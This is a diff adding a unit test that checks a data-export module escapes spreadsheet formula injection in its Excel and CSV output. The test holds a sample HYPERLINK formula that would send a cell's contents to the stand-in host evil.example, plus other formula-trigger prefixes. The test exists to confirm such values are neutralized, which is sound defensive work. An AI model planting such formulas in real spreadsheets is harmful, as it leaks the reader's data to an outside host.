@@ -169,3 +169,19 @@ def test_the_check_finds_what_the_audit_found():
                     f"{L('is_part')!r} writes a flag as 'False'", f"{L('counts')!r} is empty in every row",
                     f"{L('part_of')!r} repeats {L('counts')!r}"):
         assert finding in found, finding
+
+
+def test_a_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text():
+    """A hostile quote or note ('=HYPERLINK("https://evil.example/?x="&A2,"Source")') must not become a
+    live formula in the Excel or CSV a reader opens."""
+    import openpyxl
+
+    hostile = '=HYPERLINK("https://evil.example/?x="&A2,"Source")'
+    rows = pd.DataFrame({"Quote": [hostile, "+1 more", "@cmd", "-2+3", "plain"], "Killed": [145.0, 3.0, 1.0, 2.0, 4.0]})
+    book = openpyxl.load_workbook(io.BytesIO(export.table_xlsx(rows, pd.DataFrame(columns=["doc_id"]), doc_ids=[])))
+    cells = [c.value for c in book.worksheets[0]["A"][1:]]
+    assert all(c.data_type != "f" for c in book.worksheets[0]["A"][1:])
+    assert cells[:4] == ["'" + v for v in (hostile, "+1 more", "@cmd", "-2+3")] and cells[4] == "plain"
+    assert [c.value for c in book.worksheets[0]["B"][1:]] == [145, 3, 1, 2, 4]
+    text = export.table_csv(rows).decode()
+    assert "'=HYPERLINK" in text and not re.search(r'^"?=', text, re.M)
